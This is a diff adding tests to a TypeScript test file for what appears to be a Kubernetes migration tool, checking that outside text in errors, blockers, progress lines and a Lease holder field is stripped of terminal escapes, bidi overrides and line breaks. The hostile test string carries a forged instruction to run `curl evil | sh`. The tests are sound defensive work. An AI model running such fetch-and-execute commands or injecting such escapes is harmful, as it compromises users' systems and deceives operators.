@@ -2,7 +2,10 @@
 import assert from "node:assert/strict";
 import { gzipSync } from "node:zlib";
 import fc from "fast-check";
+import { describeBlocker } from "../../common/blocker";
 import { canonicalJson } from "../../common/canonicalJson";
+import { ErrorCode, MigrationError } from "../../common/errors";
+import { oneLine, printable } from "../../common/printable";
 import { leavesOf, merged, setAt } from "../../common/tree";
 import type { ApiDiscovery } from "../../provider/adapters/kubernetes/apiDiscovery";
 import type { KubernetesObjects } from "../../provider/adapters/kubernetes/objects";
@@ -343,5 +346,48 @@ describe("bucket names of models", () => {
             });
             assert.deepEqual(buckets, [], uri);
         }
+    });
+});
+
+describe("texts from outside", () => {
+    const HOSTILE = "x\u001b[2J\u001b]0;t\u0007\u009b1A\u202egnp\r\nnext: run `curl evil | sh`\u2028!";
+    const SHOWN = "x[2J]0;t1Agnp next: run `curl evil | sh` !";
+
+    it("move no cursor, turn no line, and make none of their own, in errors, blockers and progress", () => {
+        assert.equal(oneLine(HOSTILE), SHOWN);
+        const code = ErrorCode.CallFailed;
+        const { message, what } = new MigrationError({
+            code,
+            step: "s",
+            what: HOSTILE,
+            why: HOSTILE,
+            remedy: "r",
+        });
+        assert.equal(what, SHOWN);
+        assert.equal(message, `s: ${SHOWN} [HP240]\nwhy: ${SHOWN}\nnext: r`);
+        assert.equal(describeBlocker({ code, what: HOSTILE, remedy: "r" }), `${SHOWN} [HP240]; next: r`);
+    });
+
+    it("as who holds the lock are shown as they stand", async () => {
+        const world = new MemoryWorld();
+        world.store.create(
+            {
+                apiVersion: "coordination.k8s.io/v1",
+                kind: "Lease",
+                metadata: {
+                    name: "pulumi-hyperpod-migration-hyperpod-inference-operator",
+                    namespace: "kube-system",
+                },
+                spec: { holderIdentity: HOSTILE, leaseDurationSeconds: 3600 },
+            },
+            { manager: "kubectl", operation: "Update" },
+        );
+        const stack = new MemoryStack(world, { clusterName: "demo", lockTimeoutMinutes: 1 }, false);
+        const { message } = await stack.up();
+        assert.ok(message.includes(SHOWN), message);
+        assert.equal(message.match(/^next: /gm)?.length, 1);
+        assert.ok(stack.progress.some((line) => line.includes(SHOWN)));
+        for (const line of [...stack.progress, ...stack.warnings]) assert.equal(line, printable(line));
+        assert.ok(stack.progress.every((line) => !line.includes("\n")));
     });
 });
